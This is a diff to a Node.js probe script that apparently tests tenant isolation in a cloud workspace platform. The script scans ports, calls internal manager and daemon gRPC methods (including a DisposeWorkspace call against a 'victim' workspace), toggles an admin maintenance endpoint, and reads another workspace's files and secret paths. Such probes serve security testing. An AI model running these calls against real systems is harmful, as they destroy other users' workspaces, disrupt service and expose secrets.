@@ -59,7 +59,7 @@ function connect(host, port, ms) {
   return new Promise((resolve) => {
     const s = net.connect({ host, port });
     const t = setTimeout(() => { s.destroy(); resolve('timeout'); }, ms);
-    s.on('connect', () => { clearTimeout(t); s.destroy(); resolve('connected'); });
+    s.on('connect', () => { clearTimeout(t); const from = s.localAddress + '>' + s.remoteAddress; s.destroy(); resolve('connected ' + from); });
     s.on('error', (e) => { clearTimeout(t); resolve(e.code || String(e)); });
   });
 }
@@ -111,24 +111,31 @@ const str = (field, s) => { const b = Buffer.from(s); return Buffer.concat([Buff
 async function main() {
   const gw = gateway();
   const hosts = Array.from(new Set(['127.0.0.1', 'localhost', gw, ...cfg.hostIps].filter(Boolean)));
-  // Known services on every host address: the manager, daemon, ops endpoint, proxy.
+  // Known services on every host address, all at once (dropped packets make each try wait for its timeout).
+  const tries = [];
   for (const [name, address] of [['manager', cfg.manager], ['daemon', cfg.daemon], ['metrics', cfg.metrics], ['proxy', cfg.proxy]]) {
     for (const h of hosts) {
       const target = h + ':' + portOf(address);
-      const r = await connect(h, portOf(address), 1500);
-      rec('connect-' + name, target, r === 'connected', r);
-      const call = await grpcCall(target, '/wsman.WorkspaceManager/GetWorkspaces', Buffer.alloc(0));
-      if (name === 'manager') rec('grpc-GetWorkspaces', target, call.reached, call.detail);
-      if (name === 'daemon') {
-        const d = await grpcCall(target, '/wsdaemon.WorkspaceContentService/DisposeWorkspace', str(1, cfg.victim.id));
-        rec('grpc-daemon-DisposeWorkspace', target, d.reached, d.detail);
-      }
-      if (name === 'metrics') {
-        const m = await httpCall(h, portOf(address), 'PUT', '/admin/maintenance', '{"enabled":true}');
-        rec('admin-maintenance', target, m.reached, m.detail);
-      }
+      tries.push((async () => {
+        const r = await connect(h, portOf(address), 1500);
+        rec('connect-' + name, target, r.startsWith('connected'), r);
+        if (name === 'manager') {
+          const call = await grpcCall(target, '/wsman.WorkspaceManager/GetWorkspaces', Buffer.alloc(0));
+          rec('grpc-GetWorkspaces', target, call.reached, call.detail);
+        }
+        if (name === 'daemon') {
+          const d = await grpcCall(target, '/wsdaemon.WorkspaceContentService/DisposeWorkspace', str(1, cfg.victim.id));
+          rec('grpc-daemon-DisposeWorkspace', target, d.reached, d.detail);
+        }
+        if (name === 'metrics') {
+          const m = await httpCall(h, portOf(address), 'PUT', '/admin/maintenance', '{"enabled":true}');
+          rec('admin-maintenance', target, m.reached, m.detail);
+        }
+      })());
     }
   }
+  await Promise.all(tries);
+  console.log('probe: known services tried');
   // Every port 1-1024 and the given ones on every host address.
   const ports = Array.from(new Set([...Array.from({ length: 1024 }, (_, i) => i + 1), ...cfg.ports]));
   const jobs = [];
@@ -139,13 +146,14 @@ async function main() {
       const [h, p] = jobs[next++];
       const r = await connect(h, p, 400);
       scanned++;
-      if (r === 'connected') rec('port-scan', h + ':' + p, true, r);
+      if (r.startsWith('connected')) rec('port-scan', h + ':' + p, true, r);
     }
   };
   await Promise.all(Array.from({ length: 200 }, worker));
+  console.log('probe: scanned ' + scanned + ' ports');
   // Another workspace.
   const v = await connect(cfg.victim.host, cfg.victim.port, 2000);
-  rec('other-workspace-ide', cfg.victim.host + ':' + cfg.victim.port, v === 'connected', v);
+  rec('other-workspace-ide', cfg.victim.host + ':' + cfg.victim.port, v.startsWith('connected'), v);
   for (const p of [cfg.victim.content, ...cfg.secretPaths]) {
     try { const list = fs.statSync(p).isDirectory() ? fs.readdirSync(p).join(',') : fs.readFileSync(p, 'utf8'); rec('read', p, true, list.slice(0, 100)); }
     catch (e) { rec('read', p, false, e.code || String(e)); }
